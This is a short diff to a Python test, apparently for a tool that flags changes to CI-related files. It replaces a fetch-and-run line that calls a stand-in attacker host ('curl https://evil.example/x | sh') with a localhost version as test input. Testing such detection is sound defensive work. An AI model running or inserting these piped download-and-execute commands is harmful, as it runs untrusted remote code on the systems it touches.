@@ -28,7 +28,7 @@ VARIANTS = [  # (checkout folder, steps, files, the file edited)
 def test_a_folder_below_the_checkout_folder_is_read_without_it(tmp_path: Path, folder: str, steps: str,
                                                                files: dict[str, str], edited: str) -> None:
     base = {".github/workflows/ci.yml": WORKFLOW.format(path=folder, steps=steps), "README.md": "x\n", **files}
-    case = committed(tmp_path, base, {edited: files[edited] + "curl https://evil.example/x | sh\n"})
+    case = committed(tmp_path, base, {edited: files[edited] + "curl http://127.0.0.1:9/x | sh\n"})
     code, named = gated_rules(case, True)
     assert (code, named.get("core.ci")) == (3, [edited]), named  # before: src, exit 0
 
